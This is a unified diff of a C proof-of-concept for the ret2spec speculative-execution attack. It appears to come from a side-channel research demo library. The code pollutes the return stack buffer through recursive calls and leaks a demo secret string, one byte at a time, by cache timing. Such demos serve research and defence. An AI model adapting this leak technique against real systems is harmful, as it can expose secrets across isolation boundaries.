@@ -1,100 +1,100 @@
+// Combined ret2spec C file
+//
+// The oracle, flushing and scoring come from the support library through its
+// C interface (att2_r2s/demos/safeside_c.h), so this experiment runs the same
+// hot paths as the C++ demos. Build against the library built in BUILD, e.g.:
+//
+//     cc -O1 -I../att2_r2s/demos r2s.c BUILD/libsafeside.a -lstdc++ -lm -lpthread
 #include <stdint.h>
 #include <stdlib.h>
 #include <stdio.h>
 #include <string.h>
 #include <stdbool.h>
 
-#include "asm/measurereadlatency.h"
-#include "cache_sidechannel_wrapper.h"  // <-- use wrapper API
+#include "safeside_c.h"
 
-#define CACHE_LINE_SIZE 64
-#define MAX_RUNS 100000
-#define K_RECURSION_DEPTH 30
+#define MAX_RUNS 100000          // Maximum leak attempts before giving up
+#define K_RECURSION_DEPTH 30     // Depth of recursive calls to fill/underflow the RSB
+
+// Side channel in static storage; its oracle has one page per byte value.
+static SafesideCacheSideChannel channel;
+static const unsigned char *oracle;
+static size_t oracle_stride;
 
 // Pointer to the secret we want to leak
 extern const char *private_data;
-size_t current_offset;
-
-// CacheSideChannel handle
-CSCHandle csc = NULL;
+size_t current_offset;  // Index of the byte we want to leak from private_data
 
-// Forward declarations (defined in assembly)
-void FlushDataCacheLineNoBarrier(const void *addr);
-void MemoryAndSpeculationBarrier();
-void ForceRead(const void *addr);
+// Global state for controlling speculative function execution
+bool false_value = 0;
+void (*return_true_base_case)();     // Normally a NOP
+void (*return_false_base_case)();    // Starts the RSB overwrite
 
 // Stack marks to track addresses in recursive calls for flushing
 char *stack_marks[256];
 int stack_index = 0;
 
-// Global state for controlling speculative function execution
-bool false_value = 0;
-void (*return_true_base_case)();
-void (*return_false_base_case)();
-
-// Flush a stack region to evict return addresses
-void FlushFromDataCache(const void *start, const void *end) {
-    const uintptr_t begin = (uintptr_t)start;
-    const uintptr_t stop = (uintptr_t)end;
-    for (uintptr_t p = begin; p < stop; p += CACHE_LINE_SIZE) {
-        FlushDataCacheLineNoBarrier((const void*)p);
-    }
-    MemoryAndSpeculationBarrier();
-}
-
-// Flush CacheSideChannel oracle
-void FlushOracle() {
-    CSC_FlushOracle(csc);
-}
-
-// Run timing check to determine best guess for speculatively accessed byte
-char RecomputeScores(char safe_char) {
-    char result = 0;
-    CSC_RecomputeScores(csc, safe_char, &result);
-    return result;
-}
-
 // Function that never returns true — used to pollute the RSB
-void ReturnsFalse(int depth) {
+bool ReturnsFalse(int depth) {
     if (depth > 0) {
-        ReturnsFalse(depth - 1);
+        if (ReturnsFalse(depth - 1)) {  // Recurse to fill RSB
+            // Unreachable architecturally. Reached speculatively when a
+            // ReturnsTrue frame returns here through a mispredicted return.
+            SafesideForceRead(
+                oracle + oracle_stride *
+                             (unsigned char)private_data[current_offset]);
+            fprintf(stderr, "Dead code. Must not be printed.\n");
+            exit(1);
+        }
     } else {
-        return_true_base_case();
+        return_true_base_case();  // Triggers speculative return
     }
+    return false_value;
 }
 
 // Function that always returns true — mispredicted to call ReturnsFalse
-void ReturnsTrue(int depth) {
-    char mark;
+bool ReturnsTrue(int depth) {
+    char mark;  // Local variable to mark this stack frame
     stack_marks[stack_index++] = &mark;
 
     if (depth > 0) {
-        ReturnsTrue(depth - 1);
+        ReturnsTrue(depth - 1);  // Recurse
     } else {
-        return_false_base_case();
+        return_false_base_case();  // Deepest call starts the false path
     }
 
+    // On return, flush stack region between current and previous mark, so
+    // that this frame's return address is uncached right before it is used
     stack_index--;
-    FlushFromDataCache(&mark, stack_marks[stack_index]);
+    SafesideFlushFromDataCache(&mark, stack_marks[stack_index]);
+    return true;
 }
 
 // Attempt to leak one byte via speculative return and cache timing
 char Ret2SpecLeakByte() {
+    SafesideCacheSideChannelResetScores(&channel);
     for (int run = 0; run < MAX_RUNS; ++run) {
-        FlushOracle();
+        SafesideCacheSideChannelFlushOracle(&channel);  // Clear oracle from cache
 
+        // Stack mark to prevent reading uninitialized stack_marks[0]
         char mark;
         stack_marks[0] = &mark;
         stack_index = 1;
 
-        ReturnsTrue(K_RECURSION_DEPTH);
+        ReturnsTrue(K_RECURSION_DEPTH);  // Fill RSB with ReturnsTrue
 
-        stack_index = 0;
+        stack_index = 0;  // Reset after recursion unwinds
 
-        char leaked = RecomputeScores((char)(run & 0xFF));
-        return leaked;  // Always return — internal class handles confidence
+        // Recompute which byte was cached speculatively; the library adds an
+        // architectural hit to compare against
+        char leaked;
+        if (SafesideCacheSideChannelAddHitAndRecomputeScores(&channel,
+                                                             &leaked)) {
+            return leaked;  // If high enough confidence, return byte
+        }
     }
 
+    // If too many failed attempts, give up
     fprintf(stderr, "Failed to converge\n");
     exit(1);
 }
@@ -107,14 +107,16 @@ void ReturnsFalseStart() {
     ReturnsFalse(K_RECURSION_DEPTH);
 }
 
-// The secret to be leaked
+// The secret to be leaked (normally inaccessible)
 const char *private_data = "It's a s3kr3t!!!";
 
+
 int main() {
-    // Initialize CacheSideChannel
-    csc = CSC_Create();
+    SafesideCacheSideChannelInit(&channel);
+    oracle = SafesideCacheSideChannelOracle(&channel);
+    oracle_stride = SafesideCacheSideChannelOracleStride();
 
-    // Initialize speculative control functions
+    // Initialize function pointers
     return_true_base_case = NopFunction;
     return_false_base_case = ReturnsFalseStart;
 
@@ -127,8 +129,6 @@ int main() {
     }
 
     printf("\nDone.\n");
-
-    // Cleanup
-    CSC_Destroy(csc);
+    SafesideCacheSideChannelDestroy(&channel);
     return 0;
 }